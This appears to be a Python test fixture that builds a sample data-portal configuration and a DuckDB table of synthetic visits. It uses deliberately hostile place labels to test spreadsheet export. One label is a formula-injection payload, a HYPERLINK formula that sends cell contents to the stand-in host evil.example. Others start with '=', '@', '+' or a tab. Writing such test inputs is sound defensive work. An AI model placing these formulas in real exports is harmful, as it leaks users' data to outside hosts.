"""A small portal for the tests of tables taken away: labels that try to break a file, doubts, a break in series."""

from __future__ import annotations

import json
from pathlib import Path

import duckdb

HOSTILE = {
    "A": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "B": 'Smith, "Sons"\r\nof Łódź – £5',
    "C": "@SUM(1;=2+2)",
    "-D": "\t+44 20",
    "F": " plain, with spaces ",
}
CONFIGURATION = {
    "portal.yaml": """
name: Test portal
organisation: Test council, "the best"
warehouse: duckdb://state/test.duckdb
today: 2026-04-15
""",
    "datasets/visits.odcs.yaml": """
apiVersion: v3.1.0
kind: DataContract
id: visits
name: Visits
version: 1.4.0
status: active
domain: Places
description: {purpose: Counts visits., limitations: Not the weekends., usage: Not for a single visit.}
team:
  members:
    - {username: o@example.org, name: Olive Owner, role: owner}
    - {username: s@example.org, name: Sam Steward, role: steward}
slaProperties: [{property: frequency, value: 1, unit: d}]
customProperties: [{property: about, value: things}]
schema:
  - name: visits
    physicalName: visits
    properties:
      - {name: id, logicalType: string, primaryKey: true, required: true}
      - name: seen_on
        logicalType: date
        required: true
        logicalTypeOptions: {minimum: "2026-01-01", maximum: "2026-04-30"}
      - name: place
        businessName: "=Place, code"
        logicalType: string
        required: true
        enum: [PLACES]
      - {name: visitors, logicalType: integer}
      - {name: in_time, logicalType: boolean, required: true}
      - {name: satisfied, logicalType: boolean}
""",
    "metrics/all.yaml": """
- id: in_time
  name: Visits "in time", of all
  dataset: visits
  type: share
  numerator: in_time
  time: seen_on
  dimensions: [place, visitors]
  better: higher
  target: {value: 60, tolerance: 5}
  definition: Of those made, how many in time.
  source: The national return
  version: 2
  history:
    - {version: 1, on: 2026-01-01, what: First.}
    - {version: 2, on: 2026-02-15, what: Late ones count., breaks_series: true}
  reviewed: 2026-01-31
  review_every: 12 months
- {id: visits, name: Visits, dataset: visits, type: count, time: seen_on, dimensions: [place], definition: Visits made.}
- id: satisfied
  name: Satisfied
  dataset: visits
  type: share
  numerator: satisfied
  time: seen_on
  dimensions: [place]
  definition: Of those asked, how many.
""",
    "reports/own.yaml": """
title: Your place
forum: The forum, weekly
owner: Olive
audience: [taker, local]
scoped: true
sections: [{title: "=Visits, of places", metrics: [in_time, visits, satisfied], breakdown: place}]
""",
    "roles.yaml": """
taker: {pages: [home, report, metric], reports: [own], datasets: [visits], see: [export]}
local: {pages: [home, report], reports: [own], datasets: [visits], rows: {place: place}, see: [export]}
""",
}  # fmt: skip


def write(folder: Path) -> Path:
    """Writes the configuration and its warehouse under the folder. Returns the configuration's folder."""
    config = folder / "config"
    codes = json.dumps([{"value": code, "label": label} for code, label in HOSTILE.items()])
    for name, text in CONFIGURATION.items():
        (config / name).parent.mkdir(parents=True, exist_ok=True)
        (config / name).write_text(text.replace("[PLACES]", codes), encoding="utf-8")
    (folder / "state").mkdir()
    places = [*HOSTILE, "nowhere"]
    rows = [
        (
            f"v{n}",
            f"2026-{n % 4 + 1:02}-{n % 14 + 1:02}",
            places[n % 7 % 6],
            n % 3 - 1,
            None if n % 11 == 0 else n % 5 > 1,
        )
        for n in range(300)
    ]
    with duckdb.connect(str(folder / "state" / "test.duckdb")) as connection:
        connection.execute(
            "CREATE TABLE visits (id VARCHAR, seen_on DATE, place VARCHAR, visitors INT, in_time BOOLEAN,"
            " satisfied BOOLEAN)"
        )
        connection.executemany("INSERT INTO visits VALUES (?, ?, ?, ?, ?, true)", rows)
    return config
